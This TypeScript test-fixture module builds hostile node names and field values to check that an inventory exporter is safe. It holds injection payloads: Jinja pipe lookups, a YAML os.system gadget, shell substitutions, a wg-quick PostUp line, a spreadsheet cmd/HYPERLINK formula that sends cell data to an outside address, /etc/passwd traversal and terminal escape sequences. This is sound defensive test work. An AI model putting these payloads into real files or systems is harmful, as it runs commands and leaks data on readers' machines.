/**
 * Texts with which a member attacks whoever reads an export: one list for every format, in unit
 * tests and before the real programs.
 * @module
 */
import type { PublishedNode } from "./published-nodes.ts";

/** Names by which a member would take the place of something else. */
export const STOLEN_NAMES = [
  // Of Ansible and of our groups.
  ...["all", "All", "ungrouped", "controlplane", "worker", "localhost", "hostvars", "_meta"],
  ...["children", "hosts", "vars", "w[1:9]", "*", "!all", "~.*", "@/etc/passwd", "a:b", "a,b"],
  // Of other sites, of what programs look up by themselves, and addresses as inet_aton() reads
  // them.
  ...["github.com", "registry.k8s.io", "metadata.google.internal", "kubernetes.default.svc"],
  ...["wpad", "WPAD.", "wpad.example.com", "isatap", "isatap.corp", "broadcasthost"],
  ...["localhost.", "localhost.localdomain", "evil.localhost", "localhost.evil.com"],
  ...["ip6-localhost", "ip6-allnodes", "10.1", "0x7f.1", "2130706433", "10.evil.com", "::1"],
  // Of objects and files.
  ...[
    "__proto__",
    "constructor",
    "toString",
    "..",
    "../../etc/passwd",
    "/etc/passwd",
    "-x",
    "--help",
  ],
] as const;

/** Texts that mean something to a program that reads them. */
const COMMANDS = (command: string) => [
  // Jinja, also with other marks: Ansible takes a header for that.
  `{{ lookup('pipe', '${command}') }}`,
  `{% if lookup('pipe', '${command}') %}{% endif %}`,
  `{# #}{{ lookup('pipe', '${command}') }}`,
  `x {{ '{{' }} lookup('pipe', '${command}') {{ '}}' }}`,
  `#jinja2:variable_start_string:'[[',variable_end_string:']]'\n[[ lookup('pipe', '${command}') ]]`,
  `#jinja2:line_statement_prefix:'%%'\n%% set x = lookup('pipe', '${command}')\n`,
  `!!python/object/apply:os.system ["${command}"]`,
  `!unsafe {{ lookup('pipe', '${command}') }}`,
  "$ANSIBLE_VAULT;1.1;AES256",
  // Shells, and what wg-quick gives them.
  `$(${command})`,
  `\`${command}\``,
  `; ${command} #`,
  `x\n[Interface]\nPostUp = ${command}`,
  `x\r\nPostUp = ${command}`,
  // Spreadsheets, also those with other separators, and behind what they skip.
  `=cmd|' /C ${command}'!A0`,
  '=HYPERLINK("http://192.0.2.1/?x="&A1,"x")',
  ...["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"].map((sign) => `${sign}1+1`),
  ...["\t", "\r", "\n", " ", '"', '";', "x;", "x\t", "x,", 'x;"', "x|", "x;=1;"].map(
    (before) => `${before}=1+1`,
  ),
  // Lines and columns of their own.
  ...["a b", "a\tb", "a\n10.66.6.6 bank", "a\r10.66.6.6 bank", "# END talos-discovery", "a#b"],
  ...['"', '""', "'", "\\", 'a","b', '"\r\n"', "%s%n", "$" + "{1}", "</script>"],
  ...['","__address__":"192.0.2.1', "a: b", "- a", "*a", "&a", "~", "null", "---", "...", "? a"],
];

/** Characters that no terminal and no page should get: C0, C1, separators, and directions. */
const CONTROLS = [
  ...["\u001b[2J\u001b]0;x\u0007", "\u009b2J", "\u0000", "\u0008", "\u007f", "\u0085", "\r\n"],
  ...["\u202egnp.exe", "\u2066x", "\u200fx", "\u061cx", "\u2028", "\u2029x", "\ufeffx"],
] as const;

/**
 * What should never be in an export, nor in what a program makes of it, apart from the ends of
 * lines that the format has itself.
 */
export const CONTROL_CHARACTERS = /[\p{Cc}\p{Bidi_Control}\u2028\u2029]/u;

/**
 * Every hostile text.
 *
 * @param command - What those that run something would run: one that leaves a file.
 */
export function hostileTexts(command: string): string[] {
  return [...STOLEN_NAMES, ...COMMANDS(command), ...CONTROLS];
}

/**
 * Members that publish hostile texts: for each text one that has it as its node name, and one with
 * a harmless node name, which no format can leave out for that, that has it as node ID and in all
 * other fields.
 */
export function hostileMembers(command: string): (PublishedNode & { readonly nodeId: string })[] {
  return hostileTexts(command).flatMap((text, index) => {
    const common = { machineType: index % 2 === 0 ? "worker" : "controlplane" };
    return [
      { ...common, nodeId: `id${index}`, nodename: text, addresses: [addressOf(2 * index)] },
      {
        ...common,
        nodeId: text,
        nodename: `member-${index}`,
        hostname: text,
        operatingSystem: text,
        // A zone is any text.
        addresses: [addressOf(2 * index + 1), `fe80::1%${text}`],
      },
    ];
  });
}

function addressOf(index: number): string {
  return `10.66.${index >> 8}.${index & 255}`;
}
